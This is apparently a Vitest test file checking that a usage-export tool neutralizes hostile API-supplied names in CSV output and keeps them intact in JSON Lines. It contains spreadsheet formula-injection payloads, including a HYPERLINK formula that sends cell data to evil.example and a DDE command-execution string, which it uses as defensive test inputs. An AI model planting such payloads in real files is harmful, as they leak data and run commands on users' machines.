/**
 * Issue 8: names that come from remote APIs cannot break the CSV, run as spreadsheet formulas, or
 * make the output invalid UTF-8; JSON Lines keeps them exactly.
 */
import { Writable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportUsage } from '../../core/export/export.js';
import { resolveExportQuery } from '../../core/export/query.js';
import { openDatabase, type Db } from '../../core/store/db.js';
import { writeProviderFetch } from '../../core/store/usage-repo.js';
import { formatNanoAsDecimal } from '../../shared/money.js';
import type { UsageRecord } from '../../shared/usage.js';
import { csvObjects, parseRfc4180 } from '../support/csv.js';
import { record } from '../support/records.js';
import { tempDir } from '../support/temp.js';

const DAY_START = Date.UTC(2026, 2, 3) / 1000;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1', // full-width equals sign
  'a,b,c',
  'say "cheese"',
  '"',
  'line\nbreak',
  'crlf\r\nbreak',
  'back\\slash\\',
  '\\"',
  ' =leading space',
  `${'x'.repeat(100_000)}=end`,
  'gpt-4o',
];

let db: Db;
beforeEach(() => {
  db = openDatabase(tempDir());
});
afterEach(() => db.close());

function seed(records: UsageRecord[]): void {
  writeProviderFetch(db, 'openai', [], records, DAY_START);
}

async function run(format: 'csv' | 'jsonl', input: { models?: string[] } = {}): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  await exportUsage(db, resolveExportQuery({ format, ...input }, DAY_START * 1000), sink);
  return Buffer.concat(chunks);
}

function hostileRows(): UsageRecord[] {
  return HOSTILE.map((name, i) =>
    record({ provider: 'openai', source: 'cost', bucketStart: DAY_START, model: name, project: i % 2 ? name : 'proj_ok', lineItem: `${name}, input`, costNano: 1_000_000_000n + BigInt(i) }),
  );
}

describe('hostile names in CSV', () => {
  it('round-trip through a strict RFC 4180 reader, one record per row, text cells neutralized', async () => {
    seed(hostileRows());
    const text = (await run('csv')).toString('utf8');
    const rows = csvObjects(text);
    expect(rows).toHaveLength(HOSTILE.length);
    const neutral = (s: string) => (/^[=+\-@\t\r＝＋－＠]/.test(s) ? `'${s}` : s);
    const byCost = new Map(rows.map((r) => [r.cost_usd, r]));
    HOSTILE.forEach((name, i) => {
      const row = byCost.get(formatNanoAsDecimal(1_000_000_000n + BigInt(i)))!;
      expect(row, JSON.stringify(name.slice(0, 30))).toBeDefined();
      expect(row.model).toBe(neutral(name));
      expect(row.project).toBe(i % 2 ? neutral(name) : 'proj_ok');
      expect(row.line_item).toBe(neutral(`${name}, input`));
    });
  });

  it('quotes every neutralized cell, so that no spreadsheet sees a bare formula', async () => {
    seed(hostileRows());
    const text = (await run('csv')).toString('utf8');
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"');
    expect(text).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(text).toContain(`"'-2+3"`);
    expect(text).toContain(`"'@SUM(A1:A9)"`);
    expect(text).toContain(`"'\t=1+1"`);
    expect(text).toContain(`"'\r=1+1"`);
    expect(text).toContain(`"'＝1+1"`);
    // Every field of every record: a field that starts with a trigger character is a quoted, prefixed one.
    for (const record of parseRfc4180(text).slice(1)) {
      for (const [index, field] of record.entries()) {
        if (index === 11) continue; // cost_usd, a number
        expect(/^[=+\-@\t\r＝＋－＠]/.test(field), JSON.stringify(field.slice(0, 40))).toBe(false);
      }
    }
    // Not neutralized: names that are harmless, and the space-led one spreadsheets read as text.
    expect(text).toContain(',gpt-4o,');
    expect(text).toContain(', =leading space,');
  });

  it('keeps numbers numbers: a negative cost (a credit) is not prefixed', async () => {
    seed([record({ provider: 'openai', source: 'cost', bucketStart: DAY_START, model: '(no model)', lineItem: 'credit', costNano: -2_500_000_000n })]);
    const text = (await run('csv')).toString('utf8');
    expect(text).toContain(',credit,,0,0,0,0,-2.5,billed,cost\r\n');
  });

  it('writes valid UTF-8 even for names that were not valid text (lone surrogates, stray bytes)', async () => {
    seed([
      record({ provider: 'openai', source: 'usage', bucketStart: DAY_START, model: 'lone\uD800high', inputTokens: 1 }),
      record({ provider: 'openai', source: 'usage', bucketStart: DAY_START, model: '\uDC00lone low', inputTokens: 2 }),
      record({ provider: 'openai', source: 'usage', bucketStart: DAY_START, model: 'emoji 🙂 ok', inputTokens: 3 }),
    ]);
    db.prepare(`INSERT INTO usage (provider, source, bucket_start, bucket_end, bucket_width, model, input_tokens, cost_kind, updated_at)
      VALUES ('openai', 'usage', ?, ?, '1h', CAST(X'62616420C328FF' AS TEXT), 4, 'estimated', 0)`).run(DAY_START, DAY_START + 3600);
    for (const format of ['csv', 'jsonl'] as const) {
      const bytes = await run(format);
      const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
      expect(text).toContain('emoji 🙂 ok');
      expect(text).toContain('bad \uFFFD(\uFFFD');
      expect(/[\uD800-\uDFFF]/u.test(text)).toBe(false); // with the u flag this matches lone surrogates only
    }
    expect(csvObjects((await run('csv')).toString('utf8'))).toHaveLength(4);
  });

  it('filters on a hostile model name exactly, as stored', async () => {
    seed(hostileRows());
    const rows = csvObjects((await run('csv', { models: ['line\nbreak', 'a,b,c'] })).toString('utf8'));
    expect(rows.map((r) => r.model).sort()).toEqual(['a,b,c', 'line\nbreak']);
  });
});

describe('hostile names in JSON Lines', () => {
  it('are kept exactly (no spreadsheet prefix), one valid JSON object per line', async () => {
    seed(hostileRows());
    const lines = (await run('jsonl')).toString('utf8').split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(HOSTILE.length);
    const models = lines.map((line) => (JSON.parse(line) as { model: string }).model);
    expect(models.sort()).toEqual([...HOSTILE].sort());
  });
});
